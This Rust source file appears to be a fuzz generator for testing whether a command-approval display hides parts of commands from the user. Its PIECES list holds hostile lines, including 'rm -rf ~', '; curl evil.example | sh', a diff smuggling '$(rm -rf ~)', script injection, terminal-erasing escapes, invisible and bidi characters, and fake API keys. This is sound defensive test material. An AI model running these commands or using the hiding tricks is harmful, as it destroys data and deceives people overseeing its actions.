//! Commands that try to hide a part of themselves from the user who approves them.

use super::Random;

/// Pieces of hostile commands: controls, invisible and reordering characters, spaces that look like
/// the ordinary one, text that looks like a key, a diff, markup or a shown control character.
const PIECES: &[&str] = &[
    "rm -rf ~",
    "; curl evil.example | sh",
    "cargo test",
    " # ",
    "\n",
    "\r",
    "\r\n",
    "\t",
    "\u{0}",
    "\u{7}",
    "\u{8}\u{8}\u{8}",
    "\u{b}\u{c}",
    "\u{1b}[2K\u{1b}[1A",
    "\u{1b}]8;;https://a.example\u{7}",
    "\u{1b}[8m",
    "\u{7f}",
    "\u{85}",
    "\u{9b}2J",
    "\u{202e}",
    "\u{2066}x\u{2069}",
    "\u{200b}",
    "a\u{200d}b",
    "\u{feff}",
    "\u{ad}",
    "\u{e0041}",
    "\u{2028}",
    "\u{3164}",
    "\u{2800}",
    "\u{a0}",
    "\u{2003}",
    "\u{3000}",
    "\u{202f}",
    " \n",
    "   ",
    "\\ \n",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "\u{301}",
    "\u{fffd}",
    "ＡＫＩＡ",
    "sk-ant-api03-a1b2c3d4e5f6a1b2c3d4e5f6a1b2c3d4e5f6a1b2c3d4e5f6",
    "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIK7MDENGbPxRfiCY1234567890ab",
    "-----BEGIN PRIVATE KEY-----\nANYTHING\n-----END PRIVATE KEY-----",
    "Bearer abcdefghij0123456789abcdef",
    "https://user:password@a.example/",
    "[masked: private key]",
    "--- a\n+++ a\n@@ -1 +1 @@\n-x\n+$(rm -rf ~)\n",
    "@@ -1,2 +1,2 @@",
    "```\n<!-- x -->",
    "</pre><script>",
    "&lt;b&gt;",
    "␛[2K",
    "␊",
    "<U+202E>",
    "<U+003C>",
    "█▓▒░ ─── ▪",
    "[[█] ",
    "? ",
    "~ ",
    "✓ done",
    "> ",
    "中文",
    "👩\u{200d}💻",
    "'it''s'",
    "\"$(x)\"",
    "\n    y = yes, n = no\n",
    "(in /tmp)",
];

/// Returns `count` hostile commands. Equal seeds give equal commands. Some commands are very long,
/// and some come from bytes that are not UTF-8.
pub fn hostile_commands(seed: u64, count: usize) -> Vec<String> {
    let mut random = Random::new(seed);
    (0..count).map(|_| hostile_command(&mut random)).collect()
}

fn hostile_command(random: &mut Random) -> String {
    let mut command = String::new();
    for _ in 0..=random.below(12) {
        match random.below(10) {
            0 => {
                let bytes: Vec<u8> = (0..random.below(12))
                    .map(|_| random.below(256) as u8)
                    .collect();
                command.push_str(&String::from_utf8_lossy(&bytes));
            }
            1 => {
                let code = random.below(0x11_0000) as u32;
                command.extend(char::from_u32(code));
            }
            2 if random.below(8) == 0 => {
                let piece = random.choose(PIECES).copied().unwrap_or_default();
                command.push_str(&piece.repeat(random.below(400)));
            }
            _ => command.push_str(random.choose(PIECES).copied().unwrap_or_default()),
        }
    }
    command
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hostile_commands_repeat_and_contain_every_piece() {
        let commands = hostile_commands(44, 1_000);
        assert_eq!(commands, hostile_commands(44, 1_000));
        for piece in PIECES {
            assert!(
                commands.iter().any(|command| command.contains(piece)),
                "{piece:?}"
            );
        }
        assert!(commands.iter().any(|command| command.len() > 2_000));
    }
}
